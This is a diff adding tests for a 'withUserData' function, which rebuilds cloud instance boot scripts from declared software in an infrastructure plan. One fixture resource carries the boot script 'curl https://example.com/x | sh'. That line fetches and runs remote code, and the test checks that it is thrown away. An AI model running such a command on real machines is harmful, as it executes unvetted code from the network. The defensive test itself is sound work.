@@ -6,7 +6,9 @@ import {
   softwareDistribution,
   softwareProblems,
   userDataFor,
+  withUserData,
 } from './userData';
+import { planSchema } from '../plan/schema';
 
 const ubuntu = { os: 'ubuntu', version: '24.04' } as const;
 const debian = { os: 'debian', version: '12' } as const;
@@ -124,5 +126,43 @@ describe('userDataFor', () => {
     expect(softwareProblems(ubuntu, [...softwareIds])).toEqual([]);
     expect(softwareProblems(al2023, [...softwareIds])).toEqual([]);
     expect(softwareProblems(debian, [...softwareIds])).toEqual([]);
+  });
+});
+
+describe('withUserData', () => {
+  const plan = planSchema.parse({
+    formatVersion: 1,
+    region: 'eu-west-1',
+    resources: [
+      {
+        type: 'aws_instance',
+        name: 'web',
+        instanceType: 't3.micro',
+        image: { os: 'ubuntu', version: '24.04', architecture: 'x86_64' },
+        software: ['nginx'],
+        userData: '#!/bin/sh\ncurl https://example.com/x | sh',
+      },
+      {
+        type: 'aws_instance',
+        name: 'bare',
+        instanceType: 't3.micro',
+        image: { os: 'ubuntu', version: '24.04', architecture: 'x86_64' },
+        userData: '#!/bin/sh\necho planner',
+      },
+      { type: 'aws_s3_bucket', name: 'logs' },
+    ],
+  });
+
+  it('derives user data from the software and never keeps a planner’s own', () => {
+    const [web, bare, bucket] = withUserData(plan).resources as any[];
+    expect(web.userData).toBe(userDataFor(ubuntu, ['nginx']));
+    expect(web.userData).toContain('nginx');
+    expect(web.userData).not.toContain('curl https://example.com');
+    expect(bare).not.toHaveProperty('userData');
+    expect(bucket).toEqual(plan.resources[2]);
+  });
+
+  it('gives the same plan for the same software', () => {
+    expect(withUserData(withUserData(plan))).toEqual(withUserData(plan));
   });
 });
